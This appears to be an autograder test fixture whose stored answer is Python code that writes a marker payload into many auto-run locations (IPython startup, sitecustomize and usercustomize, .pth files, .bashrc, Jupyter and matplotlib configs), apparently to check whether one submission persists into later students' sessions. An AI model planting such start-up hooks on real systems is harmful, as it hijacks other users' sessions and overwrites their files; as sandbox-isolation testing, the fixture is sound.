"""Writes start-up files of Python, IPython and the shell, for the students that come after it."""

EXPECT = {}
ANSWERS = {
    "q1_centre": """
import os, pathlib, site, sys

evil = "import builtins; builtins.print(''.join(['FO', 'UND start-up']))"
home = pathlib.Path(os.path.expanduser("~"))
shell = get_ipython()
places = [home / ".ipython/profile_default/startup/00.py", pathlib.Path(site.getusersitepackages()) / "usercustomize.py",
          pathlib.Path(site.getusersitepackages()) / "evil.pth", home / ".pythonrc.py", home / ".bashrc",
          home / ".config/matplotlib/matplotlibrc", home / ".jupyter/jupyter_config.py"]
for attribute in ("startup_dir", "location"):
    folder = getattr(getattr(shell, "profile_dir", None), attribute, None)
    if folder:
        places.append(pathlib.Path(folder) / "00-evil.py")
for folder in [*sys.path, *site.getsitepackages()]:
    places += [pathlib.Path(folder) / "sitecustomize.py", pathlib.Path(folder) / "evil.pth"]
for place in places:
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(evil)
    except OSError:
        pass
{{RIGHT}}
"""
}
